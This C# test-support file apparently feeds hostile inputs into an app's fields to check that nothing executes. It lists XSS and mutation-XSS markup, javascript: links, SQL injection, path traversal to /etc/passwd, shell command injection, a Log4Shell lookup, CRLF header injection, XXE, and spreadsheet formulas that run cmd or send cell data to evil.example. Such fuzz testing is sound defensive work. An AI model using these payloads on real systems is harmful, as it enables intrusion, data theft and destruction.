using System.Text;
using Vectrant.Core.Common;

namespace Vectrant.Tests.TestSupport;

/// <summary>
/// Every text that is meant to break a careless program, in one place: what one test thinks of, all tests send. Those that would run as a
/// script set a mark on the window, so that a browser tells whether it did.
/// </summary>
public static class AttackTexts
{
    /// <summary>What an element of an attack has, and what a script of an attack sets.</summary>
    public const string Mark = "attacked";

    /// <summary>What became of the attacks on a page: nothing, or what a script set, an element of theirs, an attribute that would run.</summary>
    public const string Harm = """
        () => [
          ...(window.attacked === undefined ? [] : ['a script ran']),
          ...[...document.querySelectorAll('[data-attack], iframe[srcdoc], base[target], math, marquee')].map(one => one.outerHTML),
          ...[...document.querySelectorAll('*')].filter(one => [...one.attributes].some(attribute => attribute.name.startsWith('on')
            || (['href', 'src', 'action', 'formaction', 'xlink:href'].includes(attribute.name) && /^\s*(javascript|vbscript|data:text)/i.test(attribute.value)))).map(one => one.outerHTML),
        ].map(text => text.slice(0, 200))
        """;

    public static IReadOnlyList<string> Scripts { get; } =
    [
        "<script>attacked=1</script>",
        "\"><img src=x onerror=attacked=1 data-attack>",
        "<svg/onload=attacked=1 data-attack>",
        "'-attacked=1-'",
        "\";attacked=1;//",
        "</script><script>attacked=1</script>",
        "</textarea></title></style><b data-attack>",
        "<a href=javascript:attacked=1 data-attack>a</a>",
        "javascript:attacked=1",
        "{{constructor.constructor('attacked=1')()}}",
        "<iframe srcdoc=<script>parent.attacked=1</script>>",
        "<math><mtext><table><mglyph><style><!--</style><img title=\"--><img src onerror=attacked=1>\">",
        "<noscript><p title=\"</noscript><img src onerror=attacked=1>\">",
        "<svg><style><img src=\"</style><img src onerror=attacked=1>\">",
        "<form><math><mtext></form><form><mglyph><svg><mtext><style><path id=\"</style><img onerror=attacked=1 src>\">",
        "<details open ontoggle=attacked=1 data-attack>",
        "<input autofocus onfocus=attacked=1 data-attack>",
        "<scr<script>ipt>attacked=1</scr</script>ipt>",
        "%3Cscript%3Eattacked=1%3C/script%3E",
        "&lt;script&gt;attacked=1&lt;/script&gt;",
        "&#60;img src=x onerror=attacked=1&#62;",
        "\u003cimg src=x onerror=attacked=1\u003e",
        "\uFF1Cscript\uFF1Eattacked=1\uFF1C/script\uFF1E",
        "<template><script>attacked=1</script></template>",
        "</style><style>@import url(https://evil.example/a.css);*{background:url(https://evil.example/b)}</style>",
        "\";background:url(//evil.example/c);x:\"",
        "<p style=\"background:url(//evil.example/d);width:expression(attacked=1)\" data-attack>",
    ];

    /// <summary>Markup that a parser reads in another way when it reads again what it wrote itself.</summary>
    public static IReadOnlyList<string> Mutations { get; } =
    [
        "<svg></p><style><a id=\"</style><img src onerror=attacked=1>\">",
        "<math><annotation-xml encoding=text/html><img src onerror=attacked=1 data-attack></annotation-xml></math>",
        "<select><template><style><!--</template><a rel=\"--></style></select><img src onerror=attacked=1>\">",
        "<xmp><p title=\"</xmp><img src onerror=attacked=1>\">",
        "<table><caption><svg><title><table><img src onerror=attacked=1 data-attack></table></title></svg></caption></table>",
        "<form id=x><input name=attributes data-attack><input name=innerHTML></form>",
        "<svg><foreignObject><p><template><s><template shadowrootmode=open><img src onerror=attacked=1></template></template>",
        "<a href=\"\u0001 java\tscript:attacked=1\" data-attack>a</a>",
        "<?xml-stylesheet href=\"javascript:attacked=1\"?><img src onerror=attacked=1>",
        "<!--><img src onerror=attacked=1>--!><img src onerror=attacked=1>",
    ];

    /// <summary>Marks by which this app and its framework tell their own things apart, and templates of others.</summary>
    public static IReadOnlyList<string> Marks { get; } =
    [
        "<!--Blazor:{\"type\":\"server\",\"sequence\":0,\"descriptor\":\"attacked\",\"prerenderId\":\"a\"}-->",
        "<!--Blazor-Server-Component-State:CfDJ8attacked-->",
        "<blazor-ssr><template blazor-component-id=0><script>attacked=1</script></template></blazor-ssr>",
        "@(attacked=1) @{attacked=1;} @@ @Html.Raw(attacked) _bl_0",
        "{{{attacked}}} [[${7*7}]] {%7*7%} <%- 7*7 %> [(${7*7})] #set($a=7*7)",
        "[EMAIL_1] [CARD_7] [PHONE_999999999999] [[CARD_1]] [CARD_1",
        "%{attacked} $attacked `${attacked=1}` $& $1 $` \\1",
        "data-shortcuts hx-on:load=attacked=1 x-init=attacked=1 ng-init=attacked=1 v-on:click=attacked=1",
    ];

    /// <summary>What must not come out of Markdown as anything but words, or a link that leads where a person sees.</summary>
    public static IReadOnlyList<string> Markdown { get; } =
    [
        "Hello <b onclick=attacked=1 data-attack>you</b>",
        "<iframe src=\"https://evil.example\"></iframe>",
        "<svg><script>attacked=1</script></svg>",
        "<style>*{display:none}</style>",
        "<!-- --><script>attacked=1</script>",
        "<![CDATA[<script>attacked=1</script>]]>",
        "<?php echo 1 ?>",
        "<meta http-equiv=refresh content=0;url=https://evil.example>",
        "<form action=https://evil.example><input name=password>",
        "<base href=https://evil.example target=x>",
        "<link rel=stylesheet href=https://evil.example/a.css>",
        "[click](javascript:attacked=1)",
        "[click](JaVaScRiPt:attacked=1)",
        "[click](java&#115;cript:attacked=1)",
        "[click](&#x6A;avascript:attacked=1)",
        "[click](javascript&colon;attacked=1)",
        "[click](java&Tab;script:attacked=1)",
        "[click](java&NewLine;script:attacked=1)",
        "[click](<java\tscript:attacked=1>)",
        "[click](\u0001javascript:attacked=1)",
        "[click](javascript\\:attacked=1)",
        "[click](%6Aavascript:attacked=1)",
        "[click](vbscript:msgbox(1))",
        "[click](data:text/html;base64,PHNjcmlwdD5hdHRhY2tlZD0xPC9zY3JpcHQ+)",
        "[click](view-source:javascript:attacked=1)",
        "[click](file:///etc/passwd)",
        "[click](blob:https://evil.example/1)",
        "[click](//evil.example)",
        "[click](/\\evil.example)",
        "[click](/sign-out)",
        "[click](http:)",
        "[click](https:evil.example)",
        "[click](ftp://evil.example)",
        "<javascript:attacked=1>",
        "<data:text/html,x>",
        "[click][1]\n\n[1]: javascript:attacked=1",
        "[click][a]\n\n[a]: <java\nscript:attacked=1>",
        "[click](https://ok.example \"\"onmouseover=attacked=1\")",
        "[click](https://ok.example/\"onmouseover=\"attacked=1)",
        "![alt](https://evil.example/pixel.png)",
        "![alt](x\" onerror=\"attacked=1)",
        "![alt][1]\n\n[1]: https://evil.example/pixel.png",
        "[![alt](https://evil.example/pixel.png)](https://ok.example)",
        "[![alt](https://evil.example/pixel.png)](javascript:attacked=1)",
        "# title {onclick=attacked=1}",
        "text{style=\"position:fixed;inset:0\"}",
        "```\"><script>attacked=1</script>\ncode\n```",
        "`<script>attacked=1</script>`",
        "| a |\n|---|\n| <img src=x onerror=attacked=1> |",
        "a\0<script>attacked=1</script>",
    ];

    /// <summary>Cells that a spreadsheet program would calculate, and what would begin a cell or a line of its own.</summary>
    public static IReadOnlyList<string> Formulas { get; } =
    [
        "=1+1", "+1+1", "-1+1", "@SUM(1,1)", "\t=1+1", "\r=1+1", "\n=1+1", " =1+1", "   \t=1+1", "\u00A0=1+1", "\u200B=1+1", "\uFEFF=1+1",
        "\"=1+1", "\"\"=1+1", "'=1+1", "''=1+1", " \" =1+1", "\u201C=1+1", "=\"a\"&\"b\"", "=HYPERLINK(\"https://evil.example?\"&A1,\"open\")",
        "=cmd|'/C calc'!A0", "@SUM(1+9)*cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!D2", "=IMPORTXML(CONCAT(\"https://evil.example/\",A1),\"//a\")",
        "+491234567", "-12", "x;=1+1", "x; =1+1", "x;\"=1+1", "x;=1;=2", "x\t=1+1", "x\n=1+1", "x\r\n=1+1", "\";=1+1;\"", "\",=1+1,\"", "a\",\"=1+1\",\"b",
        "\uFF1D1+1", "\uFF0B1", "\uFF0D1", "\uFF20SUM(1)", "\u22121", "\u202E=1+1", "\0=1+1", "\0a", "=", "\"", "'", ";", ";=", "\r\n", new string('\t', 50) + "=1",
    ];

    /// <summary>Words of other languages: databases, shells, templates, headers, directories, documents.</summary>
    public static IReadOnlyList<string> Languages { get; } =
    [
        "'; DROP TABLE person; --",
        "' OR '1'='1",
        "\\'; SELECT pg_sleep(9); --",
        "1) UNION SELECT password_hash FROM person --",
        "$$; SELECT 1; $$",
        "%' ESCAPE '\\' OR 1=1 --",
        "100%_[a-z]\\",
        "a & b | !c <-> (d:*",
        "../../../../etc/passwd",
        "..\\..\\windows\\win.ini",
        "....//....//etc/passwd%00.png",
        "$(touch /tmp/attacked) `id` ; id | id && id",
        "{{7*7}} ${7*7} @(7*7) <%= 7*7 %> #{7*7} *{7*7}",
        "${jndi:ldap://evil.example/a}",
        "%s%n{0}%p{1:N99999} {0,999999999}",
        "a\r\nSet-Cookie: own=1\r\n\r\nb",
        "a\nBcc: evil@example.org",
        "a%0d%0aLocation:%20https://evil.example",
        "*)(uid=*))(|(uid=*",
        "admin)(&(password=*))",
        "<!DOCTYPE a [<!ENTITY b SYSTEM \"file:///etc/passwd\">]><a>&b;</a>",
        "]]>",
        "<xi:include href=\"file:///etc/passwd\"/>",
        "{\"__proto__\":{\"attacked\":1}}",
        "__proto__",
        "constructor",
        "null",
        "undefined",
        "NaN",
        "true",
        "0x7fffffff",
        "1e309",
        "-0",
        "CON",
        "https://evil.example@127.0.0.1/",
    ];

    /// <summary>Characters that look like others, like nothing, or are more than one, all of which may be kept in some form.</summary>
    public static IReadOnlyList<string> Characters { get; } =
    [
        "Cafe\u0301",
        "\u212B \uFB01 \u1E9B\u0323 \uAC00 \u1100\u1161",
        "Z" + string.Concat(Enumerable.Repeat("\u0300\u0316\u034F", 12)),
        "\U0001F468\u200D\U0001F469\u200D\U0001F467\u200D\U0001F466",
        "\U0001F3F4\U000E0067\U000E0062\U000E007F",
        "\U0001F1E9\U0001F1EA\U0001F1E9",
        "a\u200Bb\u200Cc\u200Dd\u2060e",
        "pa\u00ADy",
        "\u0430dmin \u03BFkay",
        "\u0130\u0131\u017F\u212A",
        "\uFDFD\uFDFA",
        "\u3164\u2800",
        "\u0635\u0644\u0649 \u05E9\u05DC\u05D5\u05DD",
        "\uE000\U000F0000",
        "\u00DF\u1E9E\u0149",
        "<\u017Fcript>attacked=1</\u017Fcript> <\u0131frame> java\u017Fcript:attacked=1",
        "\uFE64script\uFE65 \u2039script\u203A \u02C2script\u02C3 \u3008script\u3009",
        "a\u061Cb\u200Ec\u200Fd",
        "e" + new string('\u0301', 60),
        string.Concat(Enumerable.Repeat("\u0E01\u0E49", 8)) + string.Concat(Enumerable.Repeat("\u0BA8\u0BBF", 8)),
        string.Join('\u200D', Enumerable.Repeat("\U0001F469", 20)),
        string.Concat(Enumerable.Repeat("\U0001F1E9", 21)),
        "a\uFFF9b\uFFFAc\uFFFB",
        "x\uFE0F\U000E0100" + string.Concat("script".Select(letter => char.ConvertFromUtf32(0xE0000 + letter))),
    ];

    /// <summary>What nothing may keep as it is: no characters, halves of them, what controls a terminal or the direction of reading.</summary>
    public static IReadOnlyList<string> Unfit { get; } =
    [
        "\0", "\u001b[2J", "\u0007", "\u007F", "\u0085", "\u009B31m", "\u2028", "\u2029", "invoice \u202Efdp.exe", "\u2066", "a\u2067b\u2069\u202Dc\u202C", new string('\u202E', 40), "\uFEFF", "\ud800", "\udc00\ud800", "\uFFFE", "\uFDD0", "\U0001FFFF", "e\u0301",
    ];

    /// <summary>As an address holds them, not all of which are texts.</summary>
    public static IReadOnlyList<string> InAddresses { get; } =
    [
        "%00", "a%00b", "%ED%A0%80", "%FF%FE", "%C0%AF", "%E2%80%AEa", "%0D%0ASet-Cookie:%20own=1", "%22%3E%3Cscript%3Eattacked=1%3C/script%3E", "%27%20OR%201=1--",
        "..%2F..%2Fetc", "%25s%25n", "%5C", "%25", "%2525", "Cafe%CC%81", new string('x', 3000),
    ];

    /// <summary>All of them but those of addresses.</summary>
    public static IReadOnlyList<string> All { get; } = [.. Scripts, .. Mutations, .. Marks, .. Markdown, .. Formulas, .. Languages, .. Characters, .. Unfit.Select(unfit => $"a{unfit}b")];

    /// <summary>More than any field takes.</summary>
    public static string Overlong { get; } = new('x', 25_000);

    /// <summary>All of them that a field of one line may keep, several in one text, so that few texts bring them all.</summary>
    /// <param name="longest">Characters of each.</param>
    public static IReadOnlyList<string> Lines(int longest) => Packed(All.Where(text => TextInput.Line(text, longest) is not null).Select(text => text.Trim()), longest, " ");

    /// <summary>All of them but halves of characters, which some ways in refuse as no text at all, several in one.</summary>
    /// <param name="longest">Characters of each.</param>
    public static IReadOnlyList<string> Texts(int longest) => Packed(All, longest, "\n\n");

    /// <summary>Several in one, but for halves of characters and what is too long.</summary>
    /// <param name="texts">What has to be in some.</param>
    /// <param name="longest">Characters of each.</param>
    /// <param name="between">What tells them apart.</param>
    public static IReadOnlyList<string> Packed(IEnumerable<string> texts, int longest, string between)
    {
        var packed = new List<string>();
        foreach (var text in texts.Where(text => text.Length <= longest && IsWhole(text)))
        {
            if (packed.Count > 0 && packed[^1].Length + between.Length + text.Length <= longest)
            {
                packed[^1] += between + text;
            }
            else
            {
                packed.Add(text);
            }
        }

        return packed;
    }

    /// <summary>As JSON of ASCII only, with halves of characters as they are, which a serializer would mend.</summary>
    public static string Literal(string text) => $"\"{string.Concat(text.Select(c => c is >= ' ' and <= '~' and not ('"' or '\\') ? c.ToString() : $"\\u{(int)c:x4}"))}\"";

    private static bool IsWhole(string text) => Encoding.UTF8.GetString(Encoding.UTF8.GetBytes(text)) == text;
}
